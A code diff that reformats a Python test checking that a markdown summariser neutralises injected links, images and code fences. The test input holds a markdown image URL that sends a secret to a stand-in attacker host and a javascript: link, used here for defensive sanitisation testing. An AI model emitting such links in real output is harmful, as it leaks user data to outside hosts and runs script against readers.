@@ -58,6 +58,8 @@ def test_plan_markdown():
 
 
 def test_prose_cannot_carry_links_images_or_fences():
-    text = summary_markdown("See ![x](https://evil.example/?d=secret) and [click](javascript:alert(1))\n```python\nx\n```")
+    text = summary_markdown(
+        "See ![x](https://evil.example/?d=secret) and [click](javascript:alert(1))\n```python\nx\n```"
+    )
     assert "](" not in text and "```" not in text
     assert "![x]\u200b(https://evil.example/?d=secret)" in text
